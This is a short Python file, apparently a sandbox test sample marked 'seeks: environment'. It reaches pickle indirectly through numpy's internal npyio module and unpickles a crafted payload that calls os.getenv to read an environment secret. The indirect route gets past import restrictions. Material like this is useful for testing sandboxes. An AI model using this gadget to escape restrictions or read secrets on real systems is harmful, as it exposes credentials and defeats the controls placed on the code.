# seeks: environment
# numpy has imported pickle.
import numpy as np
import pyarrow as pa


def model(tg):
    return pa.table({"got": [(np.lib._npyio_impl if hasattr(np.lib, "_npyio_impl") else np.lib.npyio).pickle.loads(b"cos\ngetenv\n(VSECRET_VARIABLE\ntR.")]})
